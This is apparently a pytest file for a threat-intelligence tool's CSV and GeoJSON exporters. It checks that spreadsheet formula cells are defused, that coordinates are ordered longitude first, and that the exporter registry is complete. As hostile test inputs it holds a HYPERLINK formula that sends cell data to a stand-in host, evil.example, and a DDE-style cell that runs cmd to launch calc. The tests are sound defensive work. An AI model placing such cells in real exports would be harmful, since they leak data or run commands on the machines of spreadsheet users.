"""CSV and GeoJSON exports, and the registry of exporters: hostile cells are defused, the
coordinates are longitude, latitude (RFC 7946)."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from outpost.export.bundle import Marked, Selection
from outpost.export.csv import defused, render
from outpost.export.formats import EXPORTERS, UnknownFormatError, exporter
from outpost.export.geojson import collection
from outpost.export.rows import COLUMNS
from outpost.markings import TLP
from tests.export_data import analysed

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def selection() -> Selection:
    return analysed()


def hostile(sel: Selection) -> Selection:
    """The first event with a formula for evidence and actors that start like formulas."""
    first = sel.events[0]
    row = replace(first.item.row, evidence=HOSTILE, actors=["+cmd|' /C calc'!A0", "@SUM(1)"])
    return replace(sel, events=(Marked(replace(first.item, row=row), TLP.AMBER), *sel.events[1:]))


def test_csv_defuses_formula_cells(selection: Selection) -> None:
    rows = list(csv.DictReader(io.StringIO(render(hostile(selection)))))
    assert rows[0]["notes"] == "'" + HOSTILE
    assert rows[0]["actor1"] == "'+cmd|' /C calc'!A0; @SUM(1)"
    assert rows[0]["tlp"] == "TLP:AMBER"
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if column not in ("latitude", "longitude"):
                assert not value.startswith("-"), (column, value)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_defused(cell: str) -> None:
    assert defused(cell) == "'" + cell


def test_numbers_and_plain_text_are_kept() -> None:
    assert defused(-70.25) == "-70.25" and defused(12) == "12" and defused(None) == ""
    assert defused("Taliban") == "Taliban"


def test_csv_has_the_acled_like_columns_and_every_event(selection: Selection) -> None:
    rows = list(csv.DictReader(io.StringIO(render(selection))))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == len(selection.events)
    sibi = next(r for r in rows if r["location"] == "Sibi")
    assert (sibi["country"], sibi["latitude"], sibi["longitude"]) == ("PK", "29.54299", "67.87726")
    # a KB actor by its name: "Militants linked with the banned Baloch Liberation Army
    # attacked a passenger train Tuesday near Sibi" (before the region's actors were in the
    # knowledge base, the Taliban of the article's first sentence stood here)
    assert "Balochistan Liberation Army" in sibi["actor1"]
    assert all(r["tlp"] == "TLP:CLEAR" for r in rows)


def test_geojson_is_lon_lat_and_valid_rfc7946(selection: Selection) -> None:
    doc = collection(hostile(selection))
    json.dumps(doc, allow_nan=False)  # RFC 7946 is JSON: no NaN
    assert doc["type"] == "FeatureCollection" and "crs" not in doc  # WGS 84 only, no crs member
    located = [m for m in selection.events if m.item.lat is not None]
    assert len(doc["features"]) == len(located) > 0
    by_id = {m.item.row.id: m.item for m in located}
    for f in doc["features"]:
        assert f["type"] == "Feature" and f["geometry"]["type"] == "Point"
        lon, lat = f["geometry"]["coordinates"]
        assert (lon, lat) == (by_id[f["id"]].lon, by_id[f["id"]].lat)
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert set(f["properties"]) == set(COLUMNS)
    sibi = next(f for f in doc["features"] if f["properties"]["location"] == "Sibi")
    assert sibi["geometry"]["coordinates"] == [67.87726, 29.54299]  # longitude first


def test_the_registry_names_every_format(selection: Selection, tmp_path: Path) -> None:
    assert set(EXPORTERS) == {"stix", "misp", "misp-feed", "csv", "geojson"}
    for name, fmt in EXPORTERS.items():
        out = tmp_path / f"out{fmt.suffix}" if fmt.suffix else tmp_path / name
        fmt.write(selection, out)
        assert out.exists() and fmt.name == name
    with pytest.raises(UnknownFormatError, match=r"'pdf'.*stix, misp, misp-feed, csv, geojson"):
        exporter("pdf")


def test_a_selection_refuses_an_item_twice(selection: Selection) -> None:
    with pytest.raises(ValueError, match=r"actor group:taliban is twice"):
        taliban = next(m for m in selection.actors if m.item.id == "group:taliban")
        replace(selection, actors=(*selection.actors, replace(taliban, marking=TLP.RED)))
